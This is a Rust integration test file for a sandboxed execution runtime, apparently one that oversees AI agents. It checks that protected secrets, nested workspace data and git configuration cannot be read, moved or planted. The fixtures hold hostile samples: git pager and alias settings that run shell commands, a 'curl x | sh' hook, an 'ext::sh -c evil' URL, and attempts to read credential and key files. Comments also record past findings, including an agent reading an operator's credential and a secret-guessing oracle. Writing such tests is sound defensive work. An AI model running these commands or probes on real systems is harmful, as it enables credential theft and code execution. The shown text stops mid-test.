//! Protected paths, tried as an attacker would: another vsh workspace nested
//! in this one (its data at the default place or elsewhere), and the case
//! variants of every protected name. Each attempt is refused before any byte
//! reaches the guest, hidden from listings, and denies the transaction.
// Tests and benchmarks build and inspect their fixtures by path.
#![allow(clippy::disallowed_methods)]

use vsh::{RunRequest, Runtime, RuntimeDecision, TransactionState};
use vsh_integration_tests::{config, put, tree, workspace};

/// Run `program` as a preview; return its value's repr and the decision.
fn attempt(runtime: &Runtime, program: &str) -> (String, vsh::Receipt) {
    let receipt = runtime.preview(&RunRequest::new(program)).unwrap();
    (receipt.output.monty_value().map(vsh::MontyObject::py_repr).unwrap_or_default(), receipt)
}

fn denied(receipt: &vsh::Receipt) -> Vec<String> {
    let RuntimeDecision::Denied(manifest) = &receipt.decision else {
        panic!("expected a denial, got {:?}", receipt.decision)
    };
    manifest.denied.iter().map(|denial| denial.path.to_string()).collect()
}

#[test]
fn a_nested_workspaces_vsh_data_is_invisible_and_untouchable() {
    let dir = workspace(&[("pkg/src/lib.rs", "fn main() {}\n"), ("top.txt", "top\n")]);
    // `pkg` is a vsh workspace of its own, with data at the default place and
    // a second store somewhere else inside it.
    Runtime::open(config(&dir.path().join("pkg"))).unwrap();
    Runtime::open(config(&dir.path().join("pkg")).with_data_directory(dir.path().join("pkg/state"))).unwrap();
    assert!(dir.path().join("pkg/.vsh/data/txlog").is_file());
    assert!(dir.path().join("pkg/state/txlog").is_file());
    let before = tree(dir.path());
    let outer = Runtime::open(config(dir.path())).unwrap();

    let (listing, receipt) =
        attempt(&outer, "from pathlib import Path\nsorted(p.name for p in Path('/workspace/pkg').iterdir())");
    assert_eq!(listing, "['src']", "hidden from listings");
    assert_eq!(receipt.state, TransactionState::AutoApproved);
    let (found, _) = attempt(&outer, "vsh_glob('**')");
    assert!(!found.contains(".vsh") && !found.contains("state") && found.contains("pkg/src/lib.rs"), "{found}");
    // Bash lists through the same check.
    let bash = Runtime::open(config(dir.path()).with_bash(vsh::BashConfig::new())).unwrap();
    let listed = bash.preview(&RunRequest::new("ls -A pkg").with_language(vsh::Language::Bash)).unwrap();
    assert_eq!(String::from_utf8_lossy(listed.output.stdout_bytes()), "src\n", "hidden from bash's ls");

    for (what, program) in [
        ("read the log", "from pathlib import Path\nPath('/workspace/pkg/.vsh/data/txlog').read_bytes()"),
        ("read the other store", "from pathlib import Path\nPath('/workspace/pkg/state/txlog').read_bytes()"),
        ("list the store", "from pathlib import Path\nlist(Path('/workspace/pkg/state').iterdir())"),
        (
            "append a frame",
            "from pathlib import Path\nwith open('/workspace/pkg/.vsh/data/txlog', 'ab') as f:\n    f.write(b'x')",
        ),
        ("plant a txn directory", "from pathlib import Path\nPath('/workspace/pkg/.vsh/txn/aa').mkdir(parents=True)"),
        ("remove the nested workspace", "vsh_remove('/workspace/pkg', recursive=True)"),
        ("remove its state", "vsh_remove('/workspace/pkg/state', recursive=True)"),
        ("move it away", "from pathlib import Path\nPath('/workspace/pkg').rename('/workspace/elsewhere')"),
        ("read the case variant", "from pathlib import Path\nPath('/workspace/pkg/.VSH/data/txlog').read_bytes()"),
    ] {
        let receipt = refused_and_denied(&outer, program, what);
        assert!(!denied(&receipt).is_empty(), "{what}");
    }
    assert_eq!(tree(dir.path()), before, "nothing changed");
}

#[test]
fn a_program_can_never_make_a_directory_look_like_vsh_data() {
    // A `txlog` beside a `txlog.lock` is how vsh knows another workspace's
    // data: made by a program and committed, it would hide `src` from every
    // later run and refuse approved work there.
    let dir = workspace(&[("src/app.py", "print(1)\n"), ("src/txlog", "notes\n")]);
    let runtime = Runtime::open(config(dir.path())).unwrap();
    for (what, program) in [
        ("the lock beside a log", "from pathlib import Path\nPath('/workspace/src/txlog.lock').write_text('')"),
        (
            "both, in a new directory of the base's",
            "from pathlib import Path\nPath('/workspace/src/sub').mkdir()\n\
             Path('/workspace/src/sub/txlog.lock').write_text('')\nPath('/workspace/src/sub/txlog').write_text('VSHTXL02')",
        ),
        (
            "a log renamed in beside a lock",
            "from pathlib import Path\nPath('/workspace/src/txlog').rename('/workspace/src/old')\n\
             Path('/workspace/src/txlog.lock').write_text('')\nPath('/workspace/src/old').rename('/workspace/src/txlog')",
        ),
    ] {
        let receipt = refused_and_denied(&runtime, program, what);
        assert!(denied(&receipt).iter().any(|path| path.ends_with("txlog") || path.ends_with("txlog.lock")), "{what}");
    }
    // A log that was not one (a symlink beside a lock) replaced by a file.
    let linked = workspace(&[("src/app.py", "print(1)\n"), ("src/txlog.lock", "")]);
    std::os::unix::fs::symlink("app.py", linked.path().join("src/txlog")).unwrap();
    let runtime_linked = Runtime::open(config(linked.path())).unwrap();
    let replace = "from pathlib import Path\nPath('/workspace/src/tmp').write_text('VSHTXL02')\n\
                   Path('/workspace/src/tmp').rename('/workspace/src/txlog')";
    let receipt = refused_and_denied(&runtime_linked, replace, "a file over the symlink");
    assert!(denied(&receipt).iter().any(|path| path.ends_with("txlog")), "{receipt:?}");
    // Either name alone is a file like any.
    let (_, receipt) = attempt(&runtime, "from pathlib import Path\nPath('/workspace/src/other.lock').write_text('')");
    assert_eq!(receipt.state, TransactionState::AutoApproved);
    let alone = workspace(&[("src/app.py", "print(1)\n")]);
    let runtime = Runtime::open(config(alone.path())).unwrap();
    let (_, receipt) = attempt(&runtime, "from pathlib import Path\nPath('/workspace/src/txlog.lock').write_text('')");
    assert_eq!(receipt.state, TransactionState::AutoApproved);
}

/// Run `program` (which should meet a `PermissionError`) as a preview:
/// assert it was refused and the transaction denied; return its receipt.
fn refused_and_denied(runtime: &Runtime, program: &str, what: &str) -> vsh::Receipt {
    let guarded = format!(
        "result = 'allowed'\ntry:\n{}\nexcept PermissionError:\n    result = 'refused'\nresult",
        indent(program)
    );
    let (value, receipt) = attempt(runtime, &guarded);
    assert_eq!(value, "'refused'", "{what}");
    assert_eq!(receipt.state, TransactionState::Denied, "{what}");
    receipt
}

fn indent(program: &str) -> String {
    program.lines().map(|line| format!("    {line}")).collect::<Vec<_>>().join("\n")
}

#[test]
fn case_variants_of_protected_names_are_protected() {
    let dir = workspace(&[("readme.txt", "r\n")]);
    put(dir.path(), ".ENV", "TOKEN=1\n");
    put(dir.path(), "SECRETS/db.txt", "password\n");
    put(dir.path(), "tls/SERVER.PEM", "-----BEGIN-----\n");
    put(dir.path(), "home/ID_RSA", "key\n");
    put(dir.path(), ".GIT/config", "[core]\n");
    let before = tree(dir.path());
    let runtime = Runtime::open(config(dir.path())).unwrap();
    let (listing, _) =
        attempt(&runtime, "from pathlib import Path\nsorted(p.name for p in Path('/workspace').iterdir())");
    assert_eq!(listing, "['.GIT', 'home', 'readme.txt', 'tls']", "secrets are hidden, .git is readable");
    for (path, program) in [
        (".ENV", "Path('/workspace/.ENV').read_text()"),
        ("SECRETS/db.txt", "Path('/workspace/SECRETS/db.txt').read_text()"),
        ("SECRETS/new", "Path('/workspace/SECRETS/new').write_text('x')"),
        ("tls/SERVER.PEM", "Path('/workspace/tls/SERVER.PEM').read_bytes()"),
        ("home/ID_RSA", "Path('/workspace/home/ID_RSA').read_bytes()"),
        (".GIT/config", "Path('/workspace/.GIT/config').write_text('[core]\\nhooksPath = /tmp\\n')"),
        (".Env.Local", "Path('/workspace/.Env.Local').write_text('x')"),
        (".VSH/data/txlog", "Path('/workspace/.VSH/data/txlog').read_bytes()"),
    ] {
        let program = format!(
            "from pathlib import Path\nresult = 'allowed'\ntry:\n    {program}\nexcept PermissionError:\n    result = 'refused'\nresult"
        );
        let (value, receipt) = attempt(&runtime, &program);
        assert_eq!(value, "'refused'", "{path}");
        assert_eq!(receipt.state, TransactionState::Denied, "{path}");
        assert_eq!(denied(&receipt), vec![path.to_owned()], "{path}");
    }
    // `.git` (any case) stays readable.
    let (config_text, receipt) =
        attempt(&runtime, "from pathlib import Path\nPath('/workspace/.GIT/config').read_text()");
    assert_eq!(config_text, "'[core]\\n'");
    assert_eq!(receipt.state, TransactionState::AutoApproved);
    assert_eq!(tree(dir.path()), before);
}

/// sec72 F4: a backup of a protected directory (`.aws.bak/`, `secrets.old/`)
/// held its secrets in the open, to a program and to a real command alike.
#[test]
fn copies_of_protected_directories_are_protected_like_them() {
    let dir = workspace(&[("readme.txt", "r\n")]);
    put(dir.path(), ".aws.bak/credentials", "aws_secret_access_key=1\n");
    put(dir.path(), "secrets.old/db.txt", "password\n");
    put(dir.path(), "deploy/.ssh~/id_work", "key\n");
    put(dir.path(), "prod.env.2026-12-01", "TOKEN=1\n");
    put(dir.path(), ".aws-sam/build.toml", "not a secret\n");
    let before = tree(dir.path());
    let runtime = Runtime::open(config(dir.path())).unwrap();
    let (listing, _) =
        attempt(&runtime, "from pathlib import Path\nsorted(p.name for p in Path('/workspace').iterdir())");
    assert_eq!(listing, "['.aws-sam', 'deploy', 'readme.txt']", "copies of secrets are hidden");
    for (path, program) in [
        (".aws.bak/credentials", "Path('/workspace/.aws.bak/credentials').read_text()"),
        ("secrets.old/db.txt", "Path('/workspace/secrets.old/db.txt').read_text()"),
        ("deploy/.ssh~/id_work", "Path('/workspace/deploy/.ssh~/id_work').read_text()"),
        ("prod.env.2026-12-01", "Path('/workspace/prod.env.2026-12-01').read_text()"),
        ("secrets.old/new", "Path('/workspace/secrets.old/new').write_text('x')"),
    ] {
        let receipt = refused_and_denied(&runtime, &format!("from pathlib import Path\n{program}"), path);
        assert_eq!(denied(&receipt), vec![path.to_owned()], "{path}");
    }
    if vsh_integration_tests::candidates_available() {
        let commands = Runtime::open(config(dir.path()).with_commands()).unwrap();
        let probe =
            RunRequest::new(r#"["/bin/sh", "-c", "ls -a; cat .aws.bak/credentials secrets.old/db.txt; ls -a deploy"]"#)
                .with_language(vsh::Language::Command)
                .with_failure_accepted();
        let receipt = commands.preview(&probe).unwrap();
        let vsh::ExecutionOutput::Bash(result) = &receipt.output else { panic!("{:?}", receipt.output) };
        let (stdout, stderr) = (
            String::from_utf8_lossy(&result.stdout).into_owned(),
            String::from_utf8_lossy(&result.stderr).into_owned(),
        );
        assert!(
            !stdout.contains(".aws.bak") && !stdout.contains("secrets.old") && !stdout.contains(".ssh~"),
            "{stdout}"
        );
        assert!(stdout.contains(".aws-sam") && stdout.contains("readme.txt"), "{stdout}");
        assert!(!stdout.contains("aws_secret") && !stdout.contains("password"), "{stdout}");
        // A command's look at a hidden name is answered as unreadable and
        // counted, not recorded as a denial (see the guard's `look`).
        assert!(stderr.contains(".aws.bak/credentials: Permission denied"), "{stderr}");
        assert_eq!(receipt.changed_paths, 0);
    }
    assert_eq!(tree(dir.path()), before);
}

#[test]
fn reads_never_cross_a_mount_point_inside_the_workspace() {
    if !vsh_integration_tests::in_own_mount_namespace("reads_never_cross_a_mount_point_inside_the_workspace") {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    put(outside.path(), "secret.txt", "outside bytes\n");
    let dir = workspace(&[("a.txt", "a\n"), ("mnt/.keep", "")]);
    let status = std::process::Command::new("mount")
        .arg("--bind")
        .arg(outside.path())
        .arg(dir.path().join("mnt"))
        .status()
        .unwrap();
    assert!(status.success());
    // In this process: a user namespace maps only this user, so the worker
    // cannot drop to another uid here; the checks are the same in process.
    let runtime = Runtime::open(config(dir.path()).with_in_process_execution()).unwrap();
    let program = "from pathlib import Path\nresult = []\nfor p in ['/workspace/mnt/secret.txt', '/workspace/mnt']:\n    try:\n        result.append(Path(p).read_text() if p.endswith('.txt') else [x.name for x in Path(p).iterdir()])\n    except PermissionError:\n        result.append('refused')\nresult";
    let (value, receipt) = attempt(&runtime, program);
    assert_eq!(value, "['refused', 'refused']");
    assert_eq!(receipt.state, TransactionState::Denied);
    let RuntimeDecision::Denied(manifest) = &receipt.decision else { panic!() };
    assert!(manifest.denied.iter().all(|denial| denial.rule.contains("mount point at mnt")), "{:?}", manifest.denied);
    assert!(!receipt.output.stdout_bytes().windows(7).any(|window| window == b"outside"));
    // Allowed explicitly, the mount is part of the workspace.
    let allowed = Runtime::open(
        config(dir.path()).with_in_process_execution().with_allowed_mounts([vsh::VPath::parse("mnt").unwrap()]),
    )
    .unwrap();
    let (value, receipt) = attempt(&allowed, "from pathlib import Path\nPath('/workspace/mnt/secret.txt').read_text()");
    assert_eq!(value, "'outside bytes\\n'");
    assert_eq!(receipt.state, TransactionState::AutoApproved);
}

/// The risk flags of a receipt waiting for a reviewer (none for auto-approved work).
fn risk_flags(receipt: &vsh::Receipt) -> Vec<String> {
    match &receipt.decision {
        RuntimeDecision::PendingApproval(manifest) => {
            manifest.flags.iter().map(|flag| flag.name().to_owned()).collect()
        }
        RuntimeDecision::AutoApproved => Vec::new(),
        other @ RuntimeDecision::Denied(_) => panic!("expected a decision a reviewer can make, got {other:?}"),
    }
}

/// A program writing each `(path, text)`.
fn writes(files: &[(&str, &str)]) -> String {
    let lines = files.iter().map(|(path, text)| {
        format!(
            "Path('/workspace/{path}').parent.mkdir(parents=True, exist_ok=True)\n\
             Path('/workspace/{path}').write_text({text:?})\n"
        )
    });
    std::iter::once("from pathlib import Path\n".to_owned()).chain(lines).collect()
}

#[test]
fn work_that_plants_or_writes_into_a_git_repository_outside_git_waits_for_a_reviewer() {
    let git = ["git-repository".to_owned()];
    let pager = "[core]\n\tpager = \"touch /tmp/pwned; cat\"\n";
    let run = |base: &[(&str, &str)], program: &str| {
        let dir = workspace(base);
        let runtime = Runtime::open(config(dir.path())).unwrap();
        risk_flags(&runtime.preview(&RunRequest::new(program)).unwrap())
    };
    let decide = |base: &[(&str, &str)], files: &[(&str, &str)]| run(base, &writes(files));
    // A repository whose HEAD points (through commondir) at a config elsewhere.
    let split =
        [("tools/HEAD", "ref: refs/heads/main\n"), ("tools/commondir", "../shared\n"), ("shared/config", pager)];
    assert_eq!(decide(&[("a.txt", "a")], &split), git);
    // The same with a harmless config there: tools is a repository by its HEAD and commondir.
    let linked = [("tools/HEAD", "ref: refs/heads/main\n"), ("tools/commondir", "../shared\n")];
    assert_eq!(decide(&[("shared/config", "[user]\n")], &linked), git);
    // Completing a repository a former run began: its HEAD beside an existing config.
    assert_eq!(decide(&[("repo/config", "[user]\n\tname = x\n")], &[("repo/HEAD", "ref: refs/heads/main\n")]), git);
    // Writing into an existing one: a hook, which git runs.
    let bare = [("repo/HEAD", "ref: refs/heads/main\n"), ("repo/config", "[user]\n")];
    assert_eq!(decide(&bare, &[("repo/hooks/post-checkout", "#!/bin/sh\n")]), git);
    // A HEAD beside objects (git needs no config), with a hook.
    let objects = [("odb/HEAD", "ref: refs/heads/main\n"), ("odb/objects/info/packs", ""), ("odb/hooks/pre-push", "x")];
    assert_eq!(decide(&[("a.txt", "a")], &objects), git);
    // The common directory a commondir names (objects and refs, its HEAD elsewhere): a hook there.
    let common =
        [("shared/objects/info/packs", ""), ("shared/refs/heads/main", "0000\n"), ("shared/config", "[user]\n")];
    assert_eq!(decide(&common, &[("shared/hooks/pre-commit", "#!/bin/sh\n")]), git);
    // A header in the middle of a line, or after a byte-order mark, is a header to git.
    assert_eq!(decide(&[("a.txt", "a")], &[("x/config", "[user] [core] pager = touch /tmp/p\n")]), git);
    let bom = "from pathlib import Path\nPath('/workspace/y').mkdir()\n\
               Path('/workspace/y/config').write_text(chr(0xfeff) + '[core]\\n\\tpager = x\\n')";
    assert_eq!(run(&[("a.txt", "a")], bom), git);
    // A config in git's format on its own, wherever it is.
    assert_eq!(decide(&[("a.txt", "a")], &[("deploy/config", "[alias]\n\tst = !sh -c x\n")]), git);
    // What a repository's config includes, or a symlinked config leads to,
    // is git's configuration under any name; a hook under any directory
    // (core.hooksPath, a symlinked hooks).
    let pager = "[core]\n\tpager = echo PWNED; cat\n";
    assert_eq!(decide(&[("r/config", "[include]\n\tpath = ../settings.ini\n")], &[("settings.ini", pager)]), git);
    assert_eq!(decide(&[("a.txt", "a")], &[(".gitconfig", "[alias]\n\tst = !sh -c x\n")]), git);
    assert_eq!(decide(&[("a.txt", "a")], &[("cfg.txt", "[user] [includeIf \"gitdir:/\"] path = /tmp/x\n")]), git);
    assert_eq!(decide(&[("a.txt", "a")], &[("notes.ini", "[trace2]\neventTarget = /root/.bashrc\n")]), git);
    assert_eq!(decide(&[("hk/pre-commit", "#!/bin/sh\n")], &[("hk/pre-commit", "#!/bin/sh\ncurl x | sh\n")]), git);
    assert_eq!(decide(&[("a.txt", "a")], &[(".husky/pre-push", "npm test\n")]), git);
    // Syntax git reads that a line-by-line look misses, and what hook managers run.
    assert_eq!(decide(&[("a.txt", "a")], &[("x.ini", "[x \"]\"] [core]\n\tfsmonitor = evil\n")]), git);
    assert_eq!(decide(&[("a.txt", "a")], &[("x.ini", "[alias]\n\tst = \\\n!echo PWNED\n")]), git);
    let ext = "[protocol]\n\tallow = always\n[url \"ext::sh -c evil\"]\n\tinsteadOf = https://\n";
    assert_eq!(decide(&[("a.txt", "a")], &[("x.ini", ext)]), git);
    assert_eq!(decide(&[("a.txt", "a")], &[(".pre-commit-config.yaml", "repos: []\n")]), git);
    for runner in ["lefthook.toml", ".config/lefthook-local.json", ".lefthook/pre-commit/lint.sh", ".huskyrc.json"] {
        assert_eq!(decide(&[("a.txt", "a")], &[(runner, "x\n")]), git, "{runner}");
    }
    // What pre-commit publishes for others (not run here) is ordinary.
    assert!(decide(&[("a.txt", "a")], &[(".pre-commit-hooks.yaml", "- id: x\n")]).is_empty());
    // A script a hook of the workspace's own repository runs through a symlink.
    let linked = "import os\nfrom pathlib import Path\nPath('/workspace/tools').mkdir()\n\
                  Path('/workspace/tools/lint.sh').write_text('echo ok\\n')";
    let dir = workspace(&[("a.txt", "a")]);
    std::fs::create_dir_all(dir.path().join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("../../tools/lint.sh", dir.path().join(".git/hooks/pre-commit")).unwrap();
    let runtime = Runtime::open(config(dir.path())).unwrap();
    assert_eq!(risk_flags(&runtime.preview(&RunRequest::new(linked)).unwrap()), git);
    // Ordinary work stays ordinary: a config of another format, a HEAD alone,
    // other configurations with sections git also has (cargo's aliases run no shell).
    let cargo = "[alias]\nb = \"build\"\n[http]\nproxy = \"x\"\n[core]\nthreads = 4\n";
    assert!(decide(&[("a.txt", "a")], &[(".cargo/config.toml", cargo)]).is_empty());
    assert!(
        decide(&[("a.txt", "a")], &[("setup.cfg", "[metadata]\nname = x\n[options]\npackages = find:\n")]).is_empty()
    );
    assert!(decide(&[("a.txt", "a")], &[("notes.md", "# core\nSet the pager = less in [docs].\n")]).is_empty());
    // A README that quotes git's configuration is not a file git could read.
    let readme = "# Setup\n\n```ini\n[core]\n    pager = delta\n```\n";
    assert!(decide(&[("a.txt", "a")], &[("README.md", readme)]).is_empty());
    assert!(decide(&[("a.txt", "a")], &[("app/config", "[server]\nport = 8080\n")]).is_empty());
    assert!(decide(&[("a.txt", "a")], &[("app/config", "key=value\n"), ("notes/HEAD", "x")]).is_empty());
    assert!(decide(&bare, &[("src/main.rs", "fn main() {}\n")]).is_empty());
}

#[test]
fn halves_of_a_git_repository_previewed_from_one_base_never_both_commit() {
    // Each half alone is no repository (a HEAD alone; objects alone), so each
    // preview is auto-approved; whichever commits second would complete one.
    let halves = |first: &[(&str, &str)], second: &[(&str, &str)]| {
        let dir = workspace(&[("tools/build.sh", "#!/bin/sh\n")]);
        let runtime = Runtime::open(config(dir.path())).unwrap();
        let one = runtime.preview(&RunRequest::new(&writes(first))).unwrap();
        let two = runtime.preview(&RunRequest::new(&writes(second))).unwrap();
        assert!(risk_flags(&one).is_empty() && risk_flags(&two).is_empty());
        assert_eq!(runtime.commit(one.transaction, 0).unwrap().state, TransactionState::Committed);
        let second = runtime.commit(two.transaction, 0);
        let objects = dir.path().join("tools/objects");
        (second.map(|receipt| receipt.state), objects.exists() && dir.path().join("tools/HEAD").exists())
    };
    let head = [("tools/HEAD", "ref: refs/heads/main\n")];
    let objects = [("tools/objects/info/packs", "")];
    for (first, second) in [(&head[..], &objects[..]), (&objects[..], &head[..])] {
        let (state, repository) = halves(first, second);
        assert!(
            matches!(state, Err(vsh::VshError::Commit(vsh::lower::vsh_commit::CommitError::Stale { .. }))),
            "{state:?}"
        );
        assert!(!repository, "the second half never landed");
    }
    // Work beside an unrelated name another commit made still commits.
    let (state, _) = halves(&[("tools/README", "x")], &[("tools/run.sh", "y")]);
    assert_eq!(state.unwrap(), TransactionState::Committed);
}

#[test]
fn a_hidden_name_made_or_removed_beside_a_listing_is_no_conflict_and_a_visible_one_is() {
    let listing = "import os\nfrom pathlib import Path\nPath('/workspace/out/x.txt').parent.mkdir()\n\
                   Path('/workspace/out/x.txt').write_text('listed')\nsorted(os.listdir('/workspace'))";
    let commit_after = |change: &dyn Fn(&std::path::Path)| {
        let dir = workspace(&[("a.txt", "a"), (".env", "S=1")]);
        let runtime = Runtime::open(config(dir.path())).unwrap();
        let (value, receipt) = attempt(&runtime, listing);
        assert_eq!(value, "['a.txt', 'out']", "the secret is not listed");
        change(dir.path());
        runtime.commit(receipt.transaction, 0).map(|receipt| receipt.state)
    };
    // The secrets the program never saw come and go: the listing it saw is the same.
    assert_eq!(commit_after(&|root| put(root, ".env.local", "T=2")).unwrap(), TransactionState::Committed);
    assert_eq!(
        commit_after(&|root| std::fs::remove_file(root.join(".env")).unwrap()).unwrap(),
        TransactionState::Committed
    );
    // A name it could see is a conflict.
    let stale = commit_after(&|root| put(root, "b.txt", "b"));
    assert!(
        matches!(stale, Err(vsh::VshError::Commit(vsh::lower::vsh_commit::CommitError::Stale { .. }))),
        "{stale:?}"
    );
}

/// A rule that protects a path's content only (`access = ["content-read"]`)
/// keeps it wherever the program goes: the path cannot be renamed away (nor
/// a directory above it) to be read under a name no rule covers, and a run
/// that deletes or overwrites it, as it may, never has its bytes shown in
/// its own review.
#[test]
fn a_path_protected_from_reading_is_neither_moved_away_to_be_read_nor_shown_by_a_review() {
    let dir = workspace(&[("config/prod.yml", "db_password: TOPSECRET\n"), ("readme", "ok\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"config/prod.yml\"\naccess = [\"content-read\"]\n";
    let runtime = Runtime::open(config(dir.path()).with_policy_text(policy)).unwrap();
    let before = tree(dir.path());
    for (what, program) in [
        ("rename it", "import os\nos.rename('config/prod.yml', 'x.txt')\nopen('x.txt').read()"),
        ("rename its directory", "import os\nos.rename('config', 'c2')\nopen('c2/prod.yml').read()"),
        ("move it with vsh_move", "vsh_move('config', 'c3')\nopen('c3/prod.yml').read()"),
    ] {
        let receipt = runtime.preview(&RunRequest::new(program));
        let text = format!("{receipt:?}");
        assert!(!text.contains("TOPSECRET"), "{what}: {text}");
        match receipt {
            Ok(receipt) => assert_eq!(receipt.state, TransactionState::Denied, "{what}"),
            Err(vsh::VshError::Execution(_)) => {}
            Err(other) => panic!("{what}: {other:?}"),
        }
    }
    // Deleting and overwriting it are allowed; the review shows neither
    // side of what it held.
    for program in ["vsh_remove('config/prod.yml')", "vsh_write('config/prod.yml', 'db_password: new\\n')"] {
        // Deleted just after it changed, its stamp does not stand for its
        // bytes and the diff hashes it (the case whose digest must be
        // withheld); an overwrite of it is refused then (see
        // a_guess_at_a_file_protected_from_reading_...), so it waits.
        put(dir.path(), "config/prod.yml", "db_password: TOPSECRET\n");
        if program.starts_with("vsh_write") {
            std::thread::sleep(std::time::Duration::from_millis(150));
        }
        let receipt = runtime.preview(&RunRequest::new(program).with_detail(vsh::ReceiptDetail::Full)).unwrap();
        assert_ne!(receipt.state, TransactionState::Denied, "{program}");
        let review = &receipt.review[0];
        assert_eq!(review.hunks, Err(vsh::NoHunks::Protected), "{program}: {review:?}");
        // Nor its digest, which would confirm a guess at the bytes: not in
        // the run's receipt, nor in a later show of it.
        let before = receipt.changes[0].before.unwrap();
        assert_eq!((before.content, before.stamp), (None, None), "{program}");
        // Nor the diff's digest, an unkeyed hash over that digest.
        assert!(receipt.diff_withheld, "{program}");
        assert_eq!(vsh::document::ReceiptDocument::from(&receipt).diff, "withheld");
        assert_eq!(before.size, 23, "its size is no secret to a content-read rule");
        if let Some(shown) = runtime.show(receipt.transaction).unwrap() {
            assert_eq!(shown.changes[0].before.unwrap().content, None, "{program}");
            assert!(shown.diff_withheld, "{program}");
        }
    }
    assert_eq!(tree(dir.path()), before);
}

/// sec56 F1: a file a run created at a path protected from reading was shown
/// whole in every review of the work (an agent read an operator's freshly
/// generated credential with `vsh_show`, and a secret an operator's per-run
/// policy let a run copy there). Neither side of such a path is shown, nor
/// its digest, in the run's receipt or any later review.
#[test]
fn a_file_created_where_reads_are_protected_is_never_shown_in_a_review() {
    let dir = workspace(&[("readme", "ok\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"creds/**\"\naccess = [\"content-read\"]\n";
    Runtime::open(config(dir.path())).unwrap().record_workspace_policy(policy).unwrap();
    let runtime = Runtime::open(config(dir.path()).with_durable_previews(vsh::DurablePreviews::default())).unwrap();
    let program = "vsh_mkdir('creds')\nvsh_write('creds/api2', 'tok-5e1f0c9a')\nvsh_write('notes', 'n')";
    let made = runtime.preview(&RunRequest::new(program).with_detail(vsh::ReceiptDetail::Full)).unwrap();
    assert_ne!(made.state, TransactionState::Denied, "{:?}", made.decision);
    let reviewed = |receipt: &vsh::Receipt, review: &[vsh::FileReview]| {
        let text = format!("{receipt:?}{review:?}");
        assert!(!text.contains("tok-5e1f0c9a"), "{text}");
        let api = review.iter().find(|r| r.path.as_str() == "creds/api2").expect("reviewed");
        assert_eq!(api.hunks, Err(vsh::NoHunks::Protected));
        let change = receipt.changes.iter().find(|c| c.path.as_str() == "creds/api2").unwrap();
        assert_eq!(change.after.unwrap().content, None);
        assert!(receipt.diff_withheld);
        // The rest of the work is reviewed as ever.
        assert!(review.iter().any(|r| r.path.as_str() == "notes" && r.hunks.is_ok()));
    };
    reviewed(&made, &made.review);
    drop(runtime);
    let reader = Runtime::open(config(dir.path())).unwrap();
    let shown = reader.show(made.transaction).unwrap().expect("stored");
    reviewed(&shown, &reader.review(made.transaction).unwrap());
}

/// An outside probe's oracle: a file protected from reading could be
/// overwritten with a guess at its bytes, and the right guess made no change
/// ("0 changed paths", nothing kept), so each run answered "is the secret
/// X?", from Monty, Bash and real commands alike. Any overwrite is now a
/// change, and the diff knows the file's before state by its stamp: no
/// digest of the secret reaches the diff, its digest or the transaction id.
#[test]
fn overwriting_a_file_protected_from_reading_with_its_own_bytes_is_still_a_change() {
    let secret = "db_password=tiger\n";
    let dir = workspace(&[("config/prod.ini", secret), ("readme", "ok\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"config/prod.ini\"\naccess = [\"content-read\"]\n";
    let runtime =
        Runtime::open(config(dir.path()).with_policy_text(policy).with_commands().with_bash(vsh::BashConfig::new()))
            .unwrap();
    // Past the clock's tick since the files were written: stamps stand for bytes.
    std::thread::sleep(std::time::Duration::from_millis(150));
    let mut requests = Vec::new();
    for guess in ["db_password=lion\\n", "db_password=tiger\\n"] {
        requests.push(("monty", vsh::Language::Monty, format!("vsh_write('config/prod.ini', '{guess}')")));
        requests.push(("bash", vsh::Language::Bash, format!("printf '{guess}' > config/prod.ini")));
        if vsh_integration_tests::candidates_available() {
            let argv = format!("[\"/bin/sh\", \"-c\", \"printf '{guess}' > config/prod.ini\"]");
            requests.push(("command", vsh::Language::Command, argv));
        }
    }
    let mut outcomes = Vec::new();
    for (who, language, code) in &requests {
        let request = RunRequest::new(code).with_language(*language).with_detail(vsh::ReceiptDetail::Changes);
        let receipt = runtime.preview(&request).unwrap_or_else(|error| panic!("{who}: {error:?}"));
        // Held for a reviewer whatever it wrote: bytes the program may not
        // read are judged as ones that may start programs (git-repository).
        assert_eq!(receipt.state, TransactionState::PendingApproval, "{who}");
        assert_eq!(receipt.changes.len(), 1, "{who} {code}: every guess changes the file: {:?}", receipt.changes);
        let change = &receipt.changes[0];
        assert_eq!((change.path.as_str(), change.kind), ("config/prod.ini", vsh::DiffKind::Modify), "{who}");
        // Withheld alike: an after state made of the program's own bytes
        // is not told from one made of the protected bytes (a mode change).
        assert!(receipt.diff_withheld, "{who}");
        outcomes.push((receipt.changes.len(), change.kind, change.before.map(|before| before.size)));
    }
    assert!(outcomes.windows(2).all(|pair| pair[0] == pair[1]), "the right guess looks like a wrong one: {outcomes:?}");
    // The right guess commits as any change once approved, and the file holds its bytes.
    let right = runtime.preview(&RunRequest::new("vsh_write('config/prod.ini', 'db_password=tiger\\n')")).unwrap();
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() as u64;
    let reviewer = vsh::lower::vsh_types::PrincipalId::digest(b"reviewer");
    runtime.approve(right.transaction, reviewer, now, now + 60_000).unwrap();
    assert_eq!(runtime.commit(right.transaction, now).unwrap().state, TransactionState::Committed);
    assert_eq!(std::fs::read_to_string(dir.path().join("config/prod.ini")).unwrap(), secret);
}

/// A path a rule hides from every read, though the rule lets it be
/// deleted: removing it answers the same whether it is there or not (a
/// refused look, on record), by every way a program removes a file.
#[test]
fn removing_a_hidden_path_answers_the_same_whether_it_is_there_or_not() {
    let dir = workspace(&[("config/prod.yml", "db_password: TOPSECRET\n"), ("readme", "ok\n")]);
    let policy = "version = 1\n[[protect]]\npattern = \"config/prod*.yml\"\naccess = [\"reads\"]\n";
    let runtime = Runtime::open(config(dir.path()).with_policy_text(policy)).unwrap();
    let program = |call: &str| {
        format!(
            "import os\nfrom pathlib import Path\nr = []\nfor p in ['config/prod.yml', 'config/prod2.yml']:\n    \
             try:\n        {call}\n        r.append('removed')\n    except OSError as error:\n        \
             r.append(type(error).__name__)\nr"
        )
    };
    for call in [
        "os.remove(p)",
        "os.unlink(p)",
        "Path(p).unlink()",
        "vsh_remove(p)",
        // Replacing it by a rename: made or replaced by what is hidden.
        "Path('x.txt').write_text('x')\n        os.replace('x.txt', p)",
        "Path('y.txt').write_text('y')\n        vsh_move('y.txt', p)",
